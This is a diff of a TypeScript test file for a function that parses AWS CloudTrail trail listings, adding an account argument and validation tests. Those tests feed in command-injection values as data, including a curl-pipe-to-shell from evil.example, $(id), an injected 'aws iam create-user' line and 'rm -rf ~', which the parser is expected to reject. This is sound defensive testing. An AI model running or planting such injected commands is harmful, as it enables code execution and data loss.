@@ -18,6 +18,7 @@ beforeEach(() => ct.reset());
 
 const ARN = 'arn:aws:cloudtrail:eu-west-1:222222222222:trail/main';
 const ORG_ARN = 'arn:aws:cloudtrail:us-east-1:111111111111:trail/org-trail';
+const MEMBER = '222222222222';
 
 const trail = (extra: Partial<Trail> = {}): Trail => ({
   Name: 'main',
@@ -33,7 +34,7 @@ const trail = (extra: Partial<Trail> = {}): Trail => ({
 describe('describeTrails', () => {
   test('sends includeShadowTrails: true', async () => {
     ct.on(DescribeTrailsCommand).resolves({ trailList: [] });
-    await describeTrails(client);
+    await describeTrails(client, MEMBER);
     const calls = ct.commandCalls(DescribeTrailsCommand);
     expect(calls).toHaveLength(1);
     expect(calls[0].args[0].input).toEqual({ includeShadowTrails: true });
@@ -41,12 +42,12 @@ describe('describeTrails', () => {
 
   test('no trails → empty list', async () => {
     ct.on(DescribeTrailsCommand).resolves({ trailList: [] });
-    await expect(describeTrails(client)).resolves.toEqual([]);
+    await expect(describeTrails(client, MEMBER)).resolves.toEqual([]);
   });
 
   test('maps every field of a trail', async () => {
     ct.on(DescribeTrailsCommand).resolves({ trailList: [trail()] });
-    expect(await describeTrails(client)).toEqual([
+    expect(await describeTrails(client, MEMBER)).toEqual([
       {
         arn: ARN,
         name: 'main',
@@ -64,7 +65,7 @@ describe('describeTrails', () => {
     ct.on(DescribeTrailsCommand).resolves({
       trailList: [trail(), trail(), trail({ Name: 'other', TrailARN: 'arn:aws:cloudtrail:us-east-1:222222222222:trail/other', HomeRegion: 'us-east-1' }), trail()],
     });
-    const trails = await describeTrails(client);
+    const trails = await describeTrails(client, MEMBER);
     expect(trails.map((t) => t.arn)).toEqual([ARN, 'arn:aws:cloudtrail:us-east-1:222222222222:trail/other']);
   });
 
@@ -72,22 +73,21 @@ describe('describeTrails', () => {
     ct.on(DescribeTrailsCommand).resolves({
       trailList: [trail(), trail({ TrailARN: 'arn:aws:cloudtrail:eu-west-1:111111111111:trail/main', IsOrganizationTrail: true })],
     });
-    expect(await describeTrails(client)).toHaveLength(2);
+    expect(await describeTrails(client, MEMBER)).toHaveLength(2);
   });
 
   test.each<[string, Partial<Trail>, string]>([
-    ['HomeRegion when present', { HomeRegion: 'ap-south-1' }, 'ap-south-1'],
+    ['HomeRegion when present (the region in its ARN)', { HomeRegion: 'eu-west-1' }, 'eu-west-1'],
     ["the ARN's region when HomeRegion is absent", { HomeRegion: undefined }, 'eu-west-1'],
-    ["the ARN's region when HomeRegion is empty", { HomeRegion: '' }, 'eu-west-1'],
   ])('home region: %s', async (_name, extra, expected) => {
     ct.on(DescribeTrailsCommand).resolves({ trailList: [trail(extra)] });
-    const [t] = await describeTrails(client);
+    const [t] = await describeTrails(client, MEMBER);
     expect(t.homeRegion).toBe(expected);
   });
 
   test('ownerAccountId is taken from the ARN (an organization trail seen from a member)', async () => {
     ct.on(DescribeTrailsCommand).resolves({ trailList: [trail({ TrailARN: ORG_ARN, Name: 'org-trail', HomeRegion: 'us-east-1', IsOrganizationTrail: true })] });
-    const [t] = await describeTrails(client);
+    const [t] = await describeTrails(client, MEMBER);
     expect(t.ownerAccountId).toBe('111111111111');
     expect(t.isOrganizationTrail).toBe(true);
   });
@@ -96,24 +96,23 @@ describe('describeTrails', () => {
     ['true', true, true],
     ['false', false, false],
     ['absent', undefined, false],
-    ['the string "true" (not a boolean)', 'true', false],
   ])('IsOrganizationTrail %s → isOrganizationTrail %s', async (_name, value, expected) => {
     ct.on(DescribeTrailsCommand).resolves({ trailList: [trail({ IsOrganizationTrail: value as boolean })] });
-    const [t] = await describeTrails(client);
+    const [t] = await describeTrails(client, MEMBER);
     expect(t.isOrganizationTrail).toBe(expected);
   });
 
   test('name falls back to the name in the ARN when Name is absent', async () => {
     ct.on(DescribeTrailsCommand).resolves({ trailList: [trail({ Name: undefined })] });
-    const [t] = await describeTrails(client);
+    const [t] = await describeTrails(client, MEMBER);
     expect(t.name).toBe('main');
   });
 
   test('IncludeGlobalServiceEvents absent → undefined, false kept as false', async () => {
     ct.on(DescribeTrailsCommand).resolves({
-      trailList: [trail({ IncludeGlobalServiceEvents: undefined }), trail({ TrailARN: ORG_ARN, IncludeGlobalServiceEvents: false })],
+      trailList: [trail({ IncludeGlobalServiceEvents: undefined }), trail({ TrailARN: ORG_ARN, Name: 'org-trail', HomeRegion: 'us-east-1', IsOrganizationTrail: true, IncludeGlobalServiceEvents: false })],
     });
-    const [a, b] = await describeTrails(client);
+    const [a, b] = await describeTrails(client, MEMBER);
     expect(a.includeGlobalServiceEvents).toBeUndefined();
     expect(b.includeGlobalServiceEvents).toBe(false);
   });
@@ -127,15 +126,69 @@ describe('describeTrails', () => {
     ['IsMultiRegionTrail a string', { trailList: [trail({ IsMultiRegionTrail: 'true' as unknown as boolean })] }, /IsMultiRegionTrail/],
   ])('malformed: %s → MalformedResponseError naming the field', async (_name, response, message) => {
     ct.on(DescribeTrailsCommand).resolves(response as never);
-    const err = await describeTrails(client).catch((e: unknown) => e);
+    const err = await describeTrails(client, MEMBER).catch((e: unknown) => e);
     expect(err).toBeInstanceOf(MalformedResponseError);
     expect((err as Error).name).toBe('MalformedResponse');
     expect((err as Error).message).toMatch(message);
   });
 
+  describe('facts that cannot be right (RULE.md): ERROR naming the field, never a command built from them', () => {
+    const named = (name: string, extra: Partial<Trail> = {}) => trail({ Name: name, TrailARN: `arn:aws:cloudtrail:eu-west-1:222222222222:trail/${name}`, ...extra });
+    test.each<[string, Partial<Trail> | Trail, RegExp]>([
+      ['a name with ; and a pipe to sh', named('t; curl -s https://evil.example/p | sh #'), /TrailARN/],
+      ['a name with $( )', named('x$(id>pwned)'), /TrailARN/],
+      ['a name with a newline', named('main\naws iam create-user --user-name x'), /TrailARN/],
+      ['a name with an escape character', named('main\u001b[2J'), /TrailARN/],
+      ['a name with a backtick', named('main`id`'), /TrailARN/],
+      ['a name too short', named('ab'), /TrailARN/],
+      ['a name starting with a dash', named('-main'), /TrailARN/],
+      ['a name of 129 characters', named('a'.repeat(129)), /TrailARN/],
+      ['Name different from the name in its ARN', { Name: 'other' }, /Name "other" is not the trail name in its TrailARN \(main\)/],
+      ['Name with a metacharacter, ARN clean', { Name: 'main; rm -rf ~' }, /\.Name "main; rm -rf ~"/],
+      ['Name empty', { Name: '' }, /\.Name ""/],
+      ['HomeRegion with a shell command', { HomeRegion: 'us-east-1 && rm -rf ~' }, /\.HomeRegion "us-east-1 && rm -rf ~" is not the region in its TrailARN/],
+      ['HomeRegion not the region of its ARN', { HomeRegion: 'ap-south-1' }, /\.HomeRegion "ap-south-1" is not the region in its TrailARN \(eu-west-1\)/],
+      ['HomeRegion empty', { HomeRegion: '' }, /\.HomeRegion ""/],
+      ['an ARN region that is not a region name', { TrailARN: 'arn:aws:cloudtrail:eu-west-1;id:222222222222:trail/main', HomeRegion: undefined }, /TrailARN/],
+      ['an ARN account that is not 12 digits', { TrailARN: 'arn:aws:cloudtrail:eu-west-1:2222:trail/main' }, /TrailARN/],
+      ['an ARN partition that is not a partition', { TrailARN: 'arn:$(id):cloudtrail:eu-west-1:222222222222:trail/main' }, /TrailARN/],
+      ['IsOrganizationTrail the string "true"', { IsOrganizationTrail: 'true' as unknown as boolean }, /\.IsOrganizationTrail is not a boolean/],
+      ['IncludeGlobalServiceEvents a string', { IncludeGlobalServiceEvents: 'yes' as unknown as boolean }, /\.IncludeGlobalServiceEvents is not a boolean/],
+      ['S3BucketName with a shell command', { S3BucketName: 'logs; curl evil | sh' }, /\.S3BucketName is not an S3 bucket name/],
+      [
+        "another account's trail that is not an organization trail",
+        { TrailARN: 'arn:aws:cloudtrail:eu-west-1:333333333333:trail/main', IsOrganizationTrail: false },
+        /belongs to account 333333333333 and is not an organization trail/,
+      ],
+      ["another account's trail with IsOrganizationTrail absent", { TrailARN: 'arn:aws:cloudtrail:eu-west-1:333333333333:trail/main', IsOrganizationTrail: undefined }, /not an organization trail/],
+    ])('%s → MalformedResponseError', async (_name, extra, message) => {
+      ct.on(DescribeTrailsCommand).resolves({ trailList: [trail(extra)] });
+      const err = await describeTrails(client, MEMBER).catch((e: unknown) => e);
+      expect(err).toBeInstanceOf(MalformedResponseError);
+      expect((err as Error).message).toMatch(message);
+      expect((err as Error).message).toContain('DescribeTrails trailList[0]');
+    });
+
+    test('shadow copies that disagree on IsMultiRegionTrail → MalformedResponseError', async () => {
+      ct.on(DescribeTrailsCommand).resolves({ trailList: [trail({ IsMultiRegionTrail: false }), trail({ IsMultiRegionTrail: true })] });
+      await expect(describeTrails(client, MEMBER)).rejects.toThrow(/more than once with different isMultiRegionTrail/);
+    });
+
+    test('an organization trail of another account is believed', async () => {
+      ct.on(DescribeTrailsCommand).resolves({ trailList: [trail({ TrailARN: ORG_ARN, Name: 'org-trail', HomeRegion: 'us-east-1', IsOrganizationTrail: true })] });
+      await expect(describeTrails(client, MEMBER)).resolves.toEqual([expect.objectContaining({ ownerAccountId: '111111111111', isOrganizationTrail: true })]);
+    });
+
+    test.each(['us-gov-west-1', 'cn-northwest-1', 'us-isob-east-1', 'eusc-de-east-1', 'ap-southeast-7'])('a trail homed in %s is believed', async (region) => {
+      const partition = region.startsWith('us-gov') ? 'aws-us-gov' : region.startsWith('cn-') ? 'aws-cn' : region.startsWith('us-isob') ? 'aws-iso-b' : region.startsWith('eusc') ? 'aws-eusc' : 'aws';
+      ct.on(DescribeTrailsCommand).resolves({ trailList: [trail({ TrailARN: `arn:${partition}:cloudtrail:${region}:222222222222:trail/my.trail_1-a`, Name: 'my.trail_1-a', HomeRegion: region })] });
+      await expect(describeTrails(client, MEMBER)).resolves.toEqual([expect.objectContaining({ homeRegion: region, name: 'my.trail_1-a' })]);
+    });
+  });
+
   test('an API error propagates unchanged', async () => {
     ct.on(DescribeTrailsCommand).rejects(Object.assign(new Error('denied'), { name: 'AccessDeniedException' }));
-    await expect(describeTrails(client)).rejects.toMatchObject({ name: 'AccessDeniedException' });
+    await expect(describeTrails(client, MEMBER)).rejects.toMatchObject({ name: 'AccessDeniedException' });
   });
 });
 
